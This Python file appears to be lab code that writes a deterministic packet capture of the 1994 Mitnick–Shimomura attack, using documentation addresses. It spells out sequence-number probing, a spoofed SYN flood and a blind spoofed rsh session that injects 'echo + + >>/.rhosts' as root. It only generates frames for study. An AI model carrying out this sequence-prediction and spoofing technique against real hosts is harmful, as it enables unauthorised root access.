"""The attack of Christmas 1994 on paper: guessable numbers, a silenced host, a connection in its name.

After Shimomura's description (tsutomu, "Technical details of the attack described by Markoff in NYT", 1995),
with addresses for documentation and the times shortened. Nothing is random: the same bytes each time.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from zlib import crc32

from lab.pcap import PcapWriter
from lab.spoof import End, segment

START_NS = 788_364_487_000_000_000  # 25 December 1994, 14:08 UTC
MS = 1_000_000

ROUTER = "02:00:00:00:00:01"
TERMINAL = End("192.0.2.20", "02:00:00:00:00:14")
SERVER = End("192.0.2.10", "02:00:00:00:00:0a")
ATTACKER = End("203.0.113.66", ROUTER, 51)
NOBODY = ATTACKER.named("198.51.100.97")
FORGED = ATTACKER.named(SERVER.address)

SHELL, LOGIN = 514, 513
STEP = 128_000
FIRST_ISN = 2_021_824_000
PROBES, SYNS, BACKLOG = 20, 60, 8

Timed = tuple[int, bytes]
"""ns after the start, and a frame."""


def probes() -> Iterator[Timed]:
    """Twenty connections that are taken back at once: each number is 128,000 above the one before."""
    for n in range(PROBES):
        at, port, isn = n * 250 * MS, 1000 - n, FIRST_ISN + n * STEP
        here, there, seq = (ATTACKER, port), (TERMINAL, SHELL), 1_382_726_990 + n
        yield at, segment(here, there, "S", seq, ip_id=0x2A00 + n)
        yield at + 1 * MS, segment(there, here, "S.", isn, seq + 1, mss=1460, ip_id=0x0500 + n)
        yield at + 150 * MS, segment(here, there, "R", seq + 1, window=0, ip_id=0x2B00 + n)


def flood() -> Iterator[Timed]:
    """Sixty SYNs in the name of a host that is not there; the server answers as many as its queue holds."""
    for n in range(SYNS):
        at, here, there = (6000 + n * 50) * MS, (NOBODY, 600 + n), (SERVER, LOGIN)
        seq = 1_382_726_960 + n
        yield at, segment(here, there, "S", seq, ip_id=0x2C00 + n)
        if n < BACKLOG:
            isn = crc32(f"login {n}".encode())
            for copy, wait in enumerate((1, 5801)):
                ip_id = 0x0900 + n + BACKLOG * copy
                yield at + wait * MS, segment(there, here, "S.", isn, seq + 1, mss=1460, ip_id=ip_id)


def in_its_name() -> Iterator[Timed]:
    """A connection whose SYN,ACK goes to the silent server; what it acknowledges is guessed."""
    here, there, seq = (FORGED, 1023), (TERMINAL, SHELL), 1_382_727_010
    guess = FIRST_ISN + PROBES * STEP
    words = (b"0\0", b"root\0root\0", b"echo + + >>/.rhosts\0")
    at, terminal_id = 10_000 * MS, 0x0600
    yield at, segment(here, there, "S", seq, ip_id=0x2D00)
    yield at + 1 * MS, segment(there, here, "S.", guess, seq + 1, mss=1460, ip_id=terminal_id)
    at += 400 * MS
    yield at, segment(here, there, ".", seq + 1, guess + 1, ip_id=0x2D01)
    sent = seq + 1
    for n, word in enumerate(words, 1):
        at += 250 * MS
        yield at, segment(here, there, "P.", sent, guess + 1, word, ip_id=0x2D01 + n)
        sent += len(word)
        yield at + 1 * MS, segment(there, here, ".", guess + 1, sent, ip_id=terminal_id + n)
    at += 1000 * MS
    yield at, segment(here, there, "F.", sent, guess + 1, ip_id=0x2D10)
    yield at + 1 * MS, segment(there, here, ".", guess + 1, sent + 1, ip_id=terminal_id + 8)
    yield at + 3 * MS, segment(there, here, "F.", guess + 1, sent + 1, ip_id=terminal_id + 9)
    yield at + 400 * MS, segment(here, there, ".", sent + 1, guess + 2, ip_id=0x2D11)


def write(path: Path) -> None:
    """Make the capture."""
    with PcapWriter(path) as out:
        for at, frame in sorted((*probes(), *flood(), *in_its_name())):
            out.write(START_NS + at, frame)
